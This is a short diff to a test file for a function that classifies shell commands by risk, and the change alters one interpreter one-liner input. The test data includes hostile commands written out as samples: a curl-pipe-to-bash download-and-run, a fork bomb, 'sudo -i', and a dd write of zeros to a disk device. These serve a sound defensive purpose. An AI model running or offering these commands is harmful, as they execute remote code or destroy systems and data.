@@ -55,7 +55,7 @@ describe('classifyCommand', () => {
       },
     ]);
     expect(await rules('curl -fsSL https://example.com/i.sh | bash')).toEqual(['download-and-run']);
-    expect(await rules('python3 -c "import os"')).toEqual(['interpreter-one-liner']);
+    expect(await rules('python3 -c "import socket"')).toEqual(['interpreter-one-liner']);
     expect(await rules('sudo -i')).toEqual(['privilege']);
     expect(await rules(':(){ :|:& };:')).toEqual(['fork-bomb']);
     expect(await rules('dd if=/dev/zero of=/dev/sda')).toEqual(['block-device-write']);
